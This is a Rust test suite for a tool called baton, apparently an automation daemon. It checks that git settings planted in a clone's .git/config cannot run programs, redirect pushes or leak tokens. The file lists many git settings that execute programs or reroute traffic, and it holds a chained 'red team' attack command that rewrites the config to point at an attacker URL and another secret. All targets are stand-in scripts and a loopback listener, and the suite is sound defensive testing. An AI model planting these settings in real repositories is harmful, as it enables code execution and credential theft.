//! baton's git trusts nothing in a clone. Each test writes into a clone's `.git` what a
//! repository's test or build script could write there (every setting that makes git run a
//! program, pointing at a script that leaves a marker; every setting that sends git's traffic
//! elsewhere, pointing at a listener on loopback), then runs baton's git operations on it,
//! through the library and through the real binary: no marker appears, the listener gets no
//! connection, and pushes still reach the real remote with the right token.

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use crate::common::{b64, git, HttpGit, Remote};
use baton::workspace::{
    rollback_hard, CloneOptions, Credentials, Error, MemoryJournal, MirrorCache, Workspace,
};
use serde_json::Value;

const FILES: &[(&str, &str)] = &[("README.md", "# demo\n"), ("src/lib.txt", "library\n")];

const TOKEN: &str = "ghs_HardeningTokenThatGoesOnlyToTheRecordedUrl";
/// Another secret in baton's environment, named by the clone's config in the attack.
const OTHER_SECRET: &str = "tg_OtherSecretThatMustStayHome";

/// A script that records each time it runs (`$0` and its arguments) in `marker`, then passes
/// its input through (so that a filter or text conversion it stands for would "work").
struct Evil {
    script: PathBuf,
    marker: PathBuf,
}

impl Evil {
    fn new(dir: &Path) -> Evil {
        use std::os::unix::fs::PermissionsExt;
        let script = dir.join("evil.sh");
        let marker = dir.join("evil-ran");
        std::fs::write(
            &script,
            format!(
                "#!/bin/sh\necho \"$0 $*\" >> '{}'\ncat 2>/dev/null\nexit 0\n",
                marker.display()
            ),
        )
        .unwrap();
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
        Evil { script, marker }
    }

    fn path(&self) -> String {
        self.script.display().to_string()
    }

    fn assert_never_ran(&self, what: &str) {
        let ran = std::fs::read_to_string(&self.marker).unwrap_or_default();
        assert!(ran.is_empty(), "{what}: the clone's program ran:\n{ran}");
    }
}

/// A listener on loopback that counts the connections it gets (and answers none).
struct Listener {
    port: u16,
    hits: Arc<AtomicUsize>,
}

impl Listener {
    fn start() -> Listener {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let counted = hits.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                counted.fetch_add(1, Ordering::SeqCst);
                drop(stream);
            }
        });
        Listener { port, hits }
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}/{path}", self.port)
    }

    fn assert_untouched(&self, what: &str) {
        assert_eq!(
            self.hits.load(Ordering::SeqCst),
            0,
            "{what}: git connected to the clone's listener"
        );
    }
}

/// Sets `key` in the file `config` (the test's git, which only edits the file).
fn set(config: &Path, key: &str, value: &str) {
    let status = Command::new("git")
        .args(["config", "--file"])
        .arg(config)
        .args(["--add", key, value])
        .status()
        .unwrap();
    assert!(status.success(), "git config {key}");
}

/// Every setting that makes git run a program, each pointing at `evil`; `hooks` is a directory
/// of hooks that are `evil` too.
fn program_settings(evil: &Evil, hooks: &Path) -> Vec<(String, String)> {
    let e = evil.path();
    let driver = format!("{e} %O %A %B");
    [
        ("core.fsmonitor", e.as_str()),
        ("core.hooksPath", &hooks.display().to_string()),
        ("core.pager", &e),
        ("pager.log", &e),
        ("pager.diff", &e),
        ("pager.show", &e),
        ("core.editor", &e),
        ("sequence.editor", &e),
        ("core.askPass", &e),
        ("core.sshCommand", &e),
        ("core.gitProxy", &e),
        ("core.alternateRefsCommand", &e),
        ("credential.helper", &e),
        ("credential.https://github.com.helper", &e),
        ("gpg.program", &e),
        ("gpg.openpgp.program", &e),
        ("gpg.ssh.program", &e),
        ("gpg.x509.program", &e),
        ("gpg.ssh.defaultKeyCommand", &e),
        ("commit.gpgSign", "true"),
        ("tag.gpgSign", "true"),
        ("push.gpgSign", "true"),
        ("log.showSignature", "true"),
        ("merge.verifySignatures", "true"),
        ("diff.external", &e),
        ("diff.evil.textconv", &e),
        ("diff.evil.command", &e),
        ("merge.evil.driver", &driver),
        ("filter.evil.clean", &e),
        ("filter.evil.smudge", &e),
        ("filter.evil.process", &e),
        ("filter.evil.required", "true"),
        ("interactive.diffFilter", &e),
        ("submodule.recurse", "true"),
        ("fetch.recurseSubmodules", "true"),
        ("status.submoduleSummary", "true"),
        ("diff.submodule", "diff"),
        ("uploadpack.packObjectsHook", &e),
        ("remote.origin.uploadpack", &e),
        ("remote.origin.receivepack", &e),
        ("remote.origin.vcs", "evil"),
        ("alias.status", &format!("!{e}")),
        (
            "core.attributesFile",
            &hooks.join("attributes").display().to_string(),
        ),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v.to_string()))
    .collect()
}

/// A directory of hooks that are all `evil`, outside any work tree (baton would commit it).
fn evil_hooks(evil: &Evil) -> PathBuf {
    let hooks = evil.script.with_file_name("evil-hooks");
    plant_hooks(&hooks, evil);
    std::fs::write(
        hooks.join("attributes"),
        "* diff=evil merge=evil filter=evil\n",
    )
    .unwrap();
    hooks
}

fn plant_hooks(dir: &Path, evil: &Evil) {
    std::fs::create_dir_all(dir).unwrap();
    for hook in [
        "pre-commit",
        "prepare-commit-msg",
        "commit-msg",
        "post-commit",
        "post-checkout",
        "post-merge",
        "pre-push",
        "pre-rebase",
        "post-rewrite",
        "reference-transaction",
        "pre-auto-gc",
        "fsmonitor-watchman",
    ] {
        std::fs::copy(&evil.script, dir.join(hook)).unwrap();
    }
}

/// Writes `settings` into the clone at `root`, with hooks in its `.git/hooks` and attributes
/// (the file that wins over every other) that select the clone's drivers for every file.
fn plant(root: &Path, evil: &Evil, settings: &[(String, String)]) {
    plant_hooks(&root.join(".git/hooks"), evil);
    let config = root.join(".git/config");
    for (key, value) in settings {
        set(&config, key, value);
    }
    std::fs::create_dir_all(root.join(".git/info")).unwrap();
    std::fs::write(
        root.join(".git/info/attributes"),
        "* diff=evil merge=evil filter=evil\n",
    )
    .unwrap();
}

/// Everything a run does with its clone, against `remote`: branch, write, commit, the agent's
/// reads, push, a clean rebase onto someone else's change, a merge that conflicts (which runs
/// the merge driver the attributes select), and a hard rollback; without `merges`, no rebase
/// or merge. `round` makes someone else's changes new each time.
async fn exercise(
    ws: &Workspace<Arc<MemoryJournal>>,
    remote: &Remote,
    journal: &MemoryJournal,
    round: usize,
    merges: bool,
) {
    let branch = ws.create_branch("fix/hostile").await.unwrap();
    ws.write_file("src/lib.txt", b"library, fixed\n")
        .await
        .unwrap();
    ws.write_file("src/new.txt", b"new\n").await.unwrap();
    assert_eq!(ws.changed_files().await.unwrap().len(), 2);
    ws.untracked().await.unwrap();
    let sha = ws.commit("fix it").await.unwrap();
    ws.diff_stat(&format!("origin/{}", ws.base()))
        .await
        .unwrap();
    for args in [
        &["diff", "--no-color", "HEAD~1"][..],
        &["show", "HEAD:src/lib.txt"],
        &["log", "-p", "-1"],
        &["status", "--porcelain"],
    ] {
        baton::agent::process::git(ws.root(), args).await.unwrap();
    }
    ws.push().await.unwrap();
    assert_eq!(remote.sha(&branch).as_deref(), Some(sha.as_str()));
    let committed = git(&remote.bare, &["ls-tree", "-r", "--name-only", &sha]);
    assert!(
        !committed.contains("admin.token"),
        "core.worktree was followed: {committed}"
    );
    if !merges {
        rollback_hard(ws, &journal.changes()).await.unwrap();
        assert_eq!(remote.sha(&branch), None, "the rollback deleted the branch");
        return;
    }
    remote.push_from_other(
        "main",
        &[("README.md", &format!("# demo, theirs {round}\n"))],
    );
    let rebased = ws.fetch_and_rebase().await.unwrap();
    assert!(!rebased.up_to_date);
    ws.push().await.unwrap();
    remote.push_from_other(
        "main",
        &[("src/lib.txt", &format!("library, theirs {round}\n"))],
    );
    let state = ws.base_state().await.unwrap();
    assert_eq!(state.conflicts, ["src/lib.txt"]);
    let err = ws.fetch_and_rebase().await.unwrap_err();
    assert!(matches!(err, Error::Conflict { .. }), "{err}");
    rollback_hard(ws, &journal.changes()).await.unwrap();
    assert_eq!(remote.sha(&branch), None, "the rollback deleted the branch");
}

/// The clone's `core.worktree` points at a directory holding a "secret" file: were git to
/// follow it, baton would commit and push that file.
fn plant_worktree(root: &Path, elsewhere: &Path) {
    std::fs::create_dir_all(elsewhere).unwrap();
    std::fs::write(elsewhere.join("admin.token"), "not for the repository\n").unwrap();
    set(
        &root.join(".git/config"),
        "core.worktree",
        &elsewhere.display().to_string(),
    );
}

/// Writes every setting that would send git's traffic (or the token) somewhere else, all
/// pointing at `listener`, into the clone at `root` cloned from `url`.
fn plant_redirects(root: &Path, url: &str, listener: &Listener, evil: &Evil) {
    let config = root.join(".git/config");
    let elsewhere = listener.url("evil.git");
    let proxy = listener.url("");
    for (key, value) in [
        ("remote.origin.url", elsewhere.as_str()),
        ("remote.origin.pushurl", &elsewhere),
        ("remote.origin.proxy", &proxy),
        ("http.proxy", &proxy),
        (&format!("http.{url}.proxy"), &proxy),
        ("http.extraHeader", "X-Evil: 1"),
        (
            &format!("http.{url}.extraHeader"),
            &format!(
                "Authorization: Basic {}",
                b64(format!("x-access-token:{OTHER_SECRET}").as_bytes())
            ),
        ),
        (
            "http.cookieFile",
            &root.join("cookies").display().to_string(),
        ),
        ("http.saveCookies", "true"),
        ("http.followRedirects", "true"),
        ("fetch.bundleURI", &listener.url("bundle")),
        ("transfer.bundleURI", "true"),
        ("protocol.allow", "always"),
        ("protocol.ext.allow", "always"),
        ("credential.helper", &evil.path()),
        ("baton.tokenEnv", "BATON_HARDENING_OTHER_SECRET"),
    ] {
        set(&config, key, value);
    }
}

/// Clones `url` through a fresh mirror cache under `data`.
async fn clone(
    data: &Path,
    url: &str,
    name: &str,
    creds: Option<Credentials>,
) -> Workspace<Arc<MemoryJournal>> {
    let mut opts = CloneOptions::new(url, data.join("workspaces").join(name));
    opts.credentials = creds;
    Workspace::clone(
        &MirrorCache::new(data),
        opts,
        Arc::new(MemoryJournal::default()),
    )
    .await
    .unwrap()
}

/// Settings only a failing remote (below) or no operation of baton's reaches: a pager needs a
/// terminal, an alias never shadows a built-in, upload-pack's hook runs on the serving side.
const REACHED_ELSEWHERE: &[&str] = &[
    "core.pager",
    "pager.",
    "alias.",
    "core.askPass",
    "core.sshCommand",
    "core.gitProxy",
    "credential.",
    "interactive.diffFilter",
    "uploadpack.",
    "core.alternateRefsCommand",
];

/// Settings that act when commits are rewritten or merged (signing, editors, drivers, hooks).
const ACT_ON_MERGES: &[&str] = &[
    "merge.",
    "gpg.",
    "commit.gpgSign",
    "sequence.editor",
    "core.editor",
    "core.hooksPath",
    "filter.",
];

/// Each setting alone: none runs its program through anything baton does with a clone.
#[tokio::test]
async fn each_setting_that_runs_a_program_is_overridden() {
    let tmp = tempfile::tempdir().unwrap();
    let evil = Evil::new(tmp.path());
    let hooks = evil_hooks(&evil);
    let remote = Remote::new(tmp.path(), FILES);
    let data = tmp.path().join("data");
    let settings = program_settings(&evil, &hooks)
        .into_iter()
        .filter(|(key, _)| !REACHED_ELSEWHERE.iter().any(|p| key.starts_with(p)));
    for (i, setting) in settings.enumerate() {
        let journal = Arc::new(MemoryJournal::default());
        let ws = Workspace::clone(
            &MirrorCache::new(&data),
            CloneOptions::new(remote.url(), data.join("workspaces").join(i.to_string())),
            journal.clone(),
        )
        .await
        .unwrap();
        plant(ws.root(), &evil, std::slice::from_ref(&setting));
        let merges = ACT_ON_MERGES.iter().any(|p| setting.0.starts_with(p));
        exercise(&ws, &remote, &journal, i, merges).await;
        evil.assert_never_ran(&format!("{} = {}", setting.0, setting.1));
    }
}

/// All of them at once, and `core.worktree` pointing at the daemon's files.
#[tokio::test]
async fn no_setting_in_the_clone_runs_a_program() {
    let tmp = tempfile::tempdir().unwrap();
    let evil = Evil::new(tmp.path());
    let hooks = evil_hooks(&evil);
    let remote = Remote::new(tmp.path(), FILES);
    let data = tmp.path().join("data");
    let journal = Arc::new(MemoryJournal::default());
    let ws = Workspace::clone(
        &MirrorCache::new(&data),
        CloneOptions::new(remote.url(), data.join("workspaces/run")),
        journal.clone(),
    )
    .await
    .unwrap();
    plant(ws.root(), &evil, &program_settings(&evil, &hooks));
    plant_worktree(ws.root(), &tmp.path().join("daemon-home"));
    exercise(&ws, &remote, &journal, 0, true).await;
    evil.assert_never_ran("clone, branch, commit, diff, push, rebase, merge, rollback");
}

/// When a remote refuses baton or cannot be reached, git asks no credential helper or askpass
/// of the clone's, and starts none of its ssh or git:// proxy commands.
#[tokio::test]
async fn a_failing_remote_runs_none_of_the_clones_programs() {
    let tmp = tempfile::tempdir().unwrap();
    let evil = Evil::new(tmp.path());
    let listener = Listener::start();
    let served = tmp.path().join("served");
    std::fs::create_dir_all(&served).unwrap();
    Remote::new(&served, FILES);
    let expected = format!(
        "Basic {}",
        b64(format!("x-access-token:{TOKEN}").as_bytes())
    );
    let server = HttpGit::start(&served, expected);
    let url = server.url("remote.git");
    let data = tmp.path().join("data");
    let ws = clone(&data, &url, "run", Some(Credentials::token(TOKEN))).await;
    let e = evil.path();
    plant(
        ws.root(),
        &evil,
        &[
            ("credential.helper".to_string(), e.clone()),
            (format!("credential.{url}.helper"), e.clone()),
            ("core.askPass".to_string(), e.clone()),
            ("core.sshCommand".to_string(), e.clone()),
            ("core.gitProxy".to_string(), e.clone()),
        ],
    );
    // No token: the server answers 401, which is when git asks for credentials.
    let anonymous = Workspace::open(
        ws.root(),
        &url,
        "main",
        None,
        Default::default(),
        MemoryJournal::default(),
    )
    .await
    .unwrap();
    let err = anonymous.remote_sha("main").await.unwrap_err();
    assert!(matches!(err, Error::Auth { .. }), "{err}");
    // ssh and git:// remotes (whose commands the clone names) that cannot be reached.
    for other in [
        "ssh://127.0.0.1:1/r.git".to_string(),
        format!("git://127.0.0.1:{}/r.git", listener.port),
    ] {
        let ws = Workspace::open(
            ws.root(),
            &other,
            "main",
            None,
            Default::default(),
            MemoryJournal::default(),
        )
        .await
        .unwrap();
        ws.remote_sha("main").await.unwrap_err();
    }
    evil.assert_never_ran("a refused fetch");
    listener.assert_untouched("git://");
}

#[tokio::test]
async fn no_setting_in_the_clone_sends_traffic_or_the_token_elsewhere() {
    let tmp = tempfile::tempdir().unwrap();
    let evil = Evil::new(tmp.path());
    let listener = Listener::start();
    let served = tmp.path().join("served");
    std::fs::create_dir_all(&served).unwrap();
    let remote = Remote::new(&served, FILES);
    git(&remote.bare, &["config", "http.receivepack", "true"]);
    let expected = format!(
        "Basic {}",
        b64(format!("x-access-token:{TOKEN}").as_bytes())
    );
    let server = HttpGit::start(&served, expected.clone());
    let url = server.url("remote.git");
    let data = tmp.path().join("data");
    let journal = Arc::new(MemoryJournal::default());
    let mut opts = CloneOptions::new(&url, data.join("workspaces/run"));
    opts.credentials = Some(Credentials::token(TOKEN));
    let ws = Workspace::clone(&MirrorCache::new(&data), opts, journal.clone())
        .await
        .unwrap();
    plant_redirects(ws.root(), &url, &listener, &evil);

    let branch = ws.create_branch("fix/redirected").await.unwrap();
    ws.write_file("src/lib.txt", b"library, fixed\n")
        .await
        .unwrap();
    let sha = ws.commit("fix it").await.unwrap();
    ws.push().await.unwrap();
    assert_eq!(
        remote.sha(&branch).as_deref(),
        Some(sha.as_str()),
        "the push reached the recorded URL"
    );
    assert_eq!(
        ws.remote_sha(&branch).await.unwrap().as_deref(),
        Some(sha.as_str())
    );
    ws.base_state().await.unwrap();
    ws.fetch_and_rebase().await.unwrap();
    rollback_hard(&ws, &journal.changes()).await.unwrap();
    assert_eq!(remote.sha(&branch), None);

    listener.assert_untouched("fetch, push, ls-remote, rollback");
    evil.assert_never_ran("the credential helper");
    let seen = server.seen_auth.lock().unwrap().clone();
    assert!(
        !seen.is_empty() && seen.iter().all(|a| *a == expected),
        "{seen:?}"
    );
    assert!(
        !ws.root().join("cookies").exists(),
        "git wrote the clone's cookie file"
    );
}

/// What baton cannot override makes it refuse, naming the setting; git never runs.
#[tokio::test]
async fn settings_that_cannot_be_overridden_stop_git_and_are_named() {
    let tmp = tempfile::tempdir().unwrap();
    let listener = Listener::start();
    let remote = Remote::new(tmp.path(), FILES);
    let url = remote.url();
    let data = tmp.path().join("data");
    let elsewhere = listener.url("evil.git");
    let included = tmp.path().join("included.gitconfig");
    std::fs::write(
        &included,
        format!("[url \"{elsewhere}\"]\n\tpushInsteadOf = {url}\n"),
    )
    .unwrap();
    type Plant<'a> = Box<dyn Fn(&Path) + 'a>;
    let cases: Vec<(&str, Plant)> = vec![
        (
            "include.path",
            Box::new(|root| {
                set(
                    &root.join(".git/config"),
                    "include.path",
                    &included.display().to_string(),
                )
            }),
        ),
        (
            "includeif.gitdir:/.path",
            Box::new(|root| {
                set(
                    &root.join(".git/config"),
                    "includeIf.gitdir:/.path",
                    &included.display().to_string(),
                )
            }),
        ),
        (
            ".insteadof",
            Box::new(|root| {
                set(
                    &root.join(".git/config"),
                    &format!("url.{elsewhere}.insteadOf"),
                    &url,
                )
            }),
        ),
        (
            ".pushinsteadof",
            Box::new(|root| {
                set(
                    &root.join(".git/config"),
                    &format!("url.{elsewhere}.pushInsteadOf"),
                    &url,
                )
            }),
        ),
        (
            "a remote named like a URL",
            Box::new(|root| {
                set(
                    &root.join(".git/config"),
                    &format!("remote.{url}.url"),
                    &elsewhere,
                )
            }),
        ),
        (
            "objects from other directories",
            Box::new(|root| {
                std::fs::write(
                    root.join(".git/objects/info/alternates"),
                    format!("{}/objects\n", remote.bare.display()),
                )
                .unwrap()
            }),
        ),
        (
            "TLS",
            Box::new(|root| {
                set(
                    &root.join(".git/config"),
                    "http.sslCAInfo",
                    &included.display().to_string(),
                )
            }),
        ),
        (
            "`.git` is a file",
            Box::new(|root| {
                std::fs::rename(root.join(".git"), root.join("real-git")).unwrap();
                std::fs::write(root.join(".git"), "gitdir: real-git\n").unwrap();
            }),
        ),
    ];
    for (i, (named, plant)) in cases.iter().enumerate() {
        let ws = clone(&data, &url, &format!("run-{i}"), None).await;
        ws.create_branch("fix/refused").await.unwrap();
        ws.write_file("src/lib.txt", b"changed\n").await.unwrap();
        plant(ws.root());
        let err = ws.push().await.unwrap_err();
        let text = err.to_string();
        assert!(matches!(err, Error::Refused { .. }), "{named}: {text}");
        assert!(text.contains(named), "{named} is named: {text}");
        let err = ws.commit("x").await.unwrap_err();
        assert!(matches!(err, Error::Refused { .. }), "{named}: {err}");
    }
    listener.assert_untouched("refused settings");
    assert_eq!(remote.sha("fix/refused"), None);
}

/// Runs `baton --data-dir <data> <args>` with `env`, and nothing of the caller's git.
fn baton(data: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_baton"))
        .envs(env.iter().copied())
        .arg("--data-dir")
        .arg(data)
        .args(args)
        .env_remove("BATON_CONFIG")
        .env_remove("BATON_DATA_DIR")
        .env_remove("GITHUB_TOKEN")
        .env("RUST_LOG", "warn")
        .current_dir(data)
        .output()
        .expect("baton runs")
}

fn ok(out: &Output, what: &str) -> Value {
    assert!(
        out.status.success(),
        "{what}: exit {:?}\nstdout: {}\nstderr: {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap_or(Value::Null)
}

/// The red team's attack: a step run in the clone (here a shell step standing for a test)
/// rewrites `.git/config` so that baton's next git command runs its program and the push
/// goes, with another secret as the token, to its own URL.
const ATTACKED: &str = r#"
id = "attacked"
name = "A step rewrites the clone's git config"

[[steps]]
id = "clone"
action = "git.clone"
with = { url = "{{ input.url }}", token_env = "BATON_HARDENING_TOKEN" }
compensate = { action = "git.rollback" }

[[steps]]
id = "attack"
action = "shell"
with = { dir = "repo", run = "{{ input.attack }}" }

[[steps]]
id = "branch"
action = "git.branch"
with = { issue = "7", labels = "bug", title = "Crash" }
compensate = { action = "git.rollback" }

[[steps]]
id = "write"
action = "git.write"
with = { path = "src/fix.txt", content = "fixed\n" }
compensate = { action = "git.rollback" }

[[steps]]
id = "commit"
action = "git.commit"
with = { message = "Fix #7" }
compensate = { action = "git.rollback" }

[[steps]]
id = "push"
action = "git.push"
compensate = { action = "git.rollback" }
"#;

#[test]
fn a_step_that_rewrites_the_clones_git_config_gets_no_program_run_and_no_token() {
    let tmp = tempfile::tempdir().unwrap();
    let evil = Evil::new(tmp.path());
    let listener = Listener::start();
    let served = tmp.path().join("served");
    std::fs::create_dir_all(&served).unwrap();
    let remote = Remote::new(&served, FILES);
    git(&remote.bare, &["config", "http.receivepack", "true"]);
    let expected = format!(
        "Basic {}",
        b64(format!("x-access-token:{TOKEN}").as_bytes())
    );
    let server = HttpGit::start(&served, expected.clone());
    let url = server.url("remote.git");
    let data = tmp.path().join("data");
    std::fs::create_dir_all(&data).unwrap();
    let flow = tmp.path().join("attacked.toml");
    std::fs::write(&flow, ATTACKED).unwrap();
    let e = evil.path();
    let elsewhere = listener.url("evil.git");
    let attack = [
        format!("git config core.fsmonitor {e}"),
        format!("git config core.hooksPath {}", tmp.path().display()),
        format!("git config remote.origin.url {elsewhere}"),
        format!("git config remote.origin.pushurl {elsewhere}"),
        format!("git config http.proxy {}", listener.url("")),
        "git config baton.tokenEnv BATON_HARDENING_OTHER_SECRET".to_string(),
        format!("git config filter.evil.clean {e}"),
        "echo '* filter=evil diff=evil' > .git/info/attributes".to_string(),
    ]
    .join(" && ");
    let env = [
        ("BATON_HARDENING_TOKEN", TOKEN),
        ("BATON_HARDENING_OTHER_SECRET", OTHER_SECRET),
    ];

    let out = baton(
        &data,
        &[
            "run",
            flow.to_str().unwrap(),
            "--input",
            &format!("url={url}"),
            "--input",
            &format!("attack={attack}"),
            "--json",
        ],
        &env,
    );
    let run = ok(&out, "baton run");
    assert_eq!(run["status"], "completed", "{run:#}");
    let id = run["id"].as_str().unwrap().to_string();
    assert!(
        remote.sha("fix/issue-7").is_some(),
        "pushed to the recorded URL"
    );
    // The compensations find the clone's record too.
    ok(
        &baton(&data, &["rollback", &id, "--hard"], &env),
        "baton rollback --hard",
    );
    assert_eq!(
        remote.sha("fix/issue-7"),
        None,
        "deleted on the recorded URL"
    );

    evil.assert_never_ran("baton run and rollback after the attack");
    listener.assert_untouched("baton run and rollback after the attack");
    let other = format!(
        "Basic {}",
        b64(format!("x-access-token:{OTHER_SECRET}").as_bytes())
    );
    let seen = server.seen_auth.lock().unwrap().clone();
    assert!(
        !seen.contains(&other),
        "the other secret was sent: {seen:?}"
    );
    assert!(seen.contains(&expected), "{seen:?}");
    let config =
        std::fs::read_to_string(data.join("workspaces").join(&id).join("repo/.git/config"))
            .unwrap();
    assert!(
        config.contains(&elsewhere),
        "the attack did write the config"
    );
}

/// A clone whose tree has a submodule, and a step that makes it a repository in the work tree
/// with a config of its own: baton's git never enters it (its config would go unchecked).
#[tokio::test]
async fn a_submodule_made_in_the_work_tree_is_never_entered() {
    let tmp = tempfile::tempdir().unwrap();
    let evil = Evil::new(tmp.path());
    let remote = Remote::new(tmp.path(), FILES);
    // The repository records a submodule `vendor/lib` (a gitlink and its `.gitmodules`).
    let other = &remote.other;
    let head = git(other, &["rev-parse", "HEAD"]);
    git(
        other,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{head},vendor/lib"),
        ],
    );
    std::fs::write(
        other.join(".gitmodules"),
        "[submodule \"lib\"]\n\tpath = vendor/lib\n\turl = ./lib.git\n\tignore = none\n",
    )
    .unwrap();
    git(other, &["add", ".gitmodules"]);
    git(other, &["commit", "-qm", "a submodule"]);
    git(other, &["push", "-q", "origin", "main"]);
    let data = tmp.path().join("data");
    let journal = Arc::new(MemoryJournal::default());
    let ws = Workspace::clone(
        &MirrorCache::new(&data),
        CloneOptions::new(remote.url(), data.join("workspaces/run")),
        journal.clone(),
    )
    .await
    .unwrap();
    // The step: a repository at the submodule's path whose config runs `evil` as a filter
    // (and as its fsmonitor) for a file it then changes.
    let sub = ws.root().join("vendor/lib");
    std::fs::create_dir_all(&sub).unwrap();
    git(&sub, &["init", "-q"]);
    std::fs::write(sub.join("file.txt"), "one\n").unwrap();
    git(&sub, &["add", "file.txt"]);
    git(&sub, &["commit", "-qm", "sub"]);
    std::fs::write(sub.join(".gitattributes"), "* filter=evil\n").unwrap();
    std::fs::write(sub.join("file.txt"), "two\n").unwrap();
    let config = sub.join(".git/config");
    for (key, value) in [
        ("filter.evil.clean", evil.path()),
        ("core.fsmonitor", evil.path()),
        ("core.hooksPath", tmp.path().display().to_string()),
    ] {
        set(&config, key, &value);
    }

    ws.create_branch("fix/sub").await.unwrap();
    ws.write_file("src/lib.txt", b"changed\n").await.unwrap();
    ws.changed_files().await.unwrap();
    ws.commit("change").await.unwrap();
    for args in [&["diff", "HEAD~1"][..], &["status"], &["log", "-p", "-1"]] {
        baton::agent::process::git(ws.root(), args).await.unwrap();
    }
    ws.push().await.unwrap();
    rollback_hard(&ws, &journal.changes()).await.unwrap();
    evil.assert_never_ran("a submodule in the work tree");
}

/// The git config baton's git reads is the operator's `BATON_GIT_CONFIG` alone: not the
/// daemon's `~/.gitconfig`, `GIT_CONFIG_GLOBAL` or `GIT_CONFIG_PARAMETERS`.
#[test]
fn baton_git_config_is_the_only_config_read_besides_the_clones() {
    let tmp = tempfile::tempdir().unwrap();
    let listener = Listener::start();
    let remote = Remote::new(tmp.path(), FILES);
    let data = tmp.path().join("data");
    std::fs::create_dir_all(&data).unwrap();
    let public = "https://example.invalid/o/r.git";
    let operator = tmp.path().join("baton.gitconfig");
    std::fs::write(
        &operator,
        format!("[url \"{}\"]\n\tinsteadOf = {public}\n", remote.url()),
    )
    .unwrap();
    let redirect = format!(
        "[url \"{}\"]\n\tinsteadOf = {public}\n",
        listener.url("x.git")
    );
    let home = tmp.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join(".gitconfig"), &redirect).unwrap();
    let global = tmp.path().join("global.gitconfig");
    std::fs::write(&global, &redirect).unwrap();
    let flow = tmp.path().join("flow.toml");
    std::fs::write(
        &flow,
        ATTACKED
            .replace(", token_env = \"BATON_HARDENING_TOKEN\"", "")
            .replace("{{ input.attack }}", "true"),
    )
    .unwrap();
    let out = baton(
        &data,
        &[
            "run",
            flow.to_str().unwrap(),
            "--input",
            &format!("url={public}"),
            "--json",
        ],
        &[
            ("BATON_GIT_CONFIG", operator.to_str().unwrap()),
            ("HOME", home.to_str().unwrap()),
            ("GIT_CONFIG_GLOBAL", global.to_str().unwrap()),
            (
                "GIT_CONFIG_PARAMETERS",
                &format!("'url.{}.insteadof'='{public}'", listener.url("y.git")),
            ),
        ],
    );
    let run = ok(&out, "baton run");
    assert_eq!(run["status"], "completed", "{run:#}");
    assert!(
        remote.sha("fix/issue-7").is_some(),
        "pushed through the operator's rewrite"
    );
    listener.assert_untouched("the daemon's own git config");
}
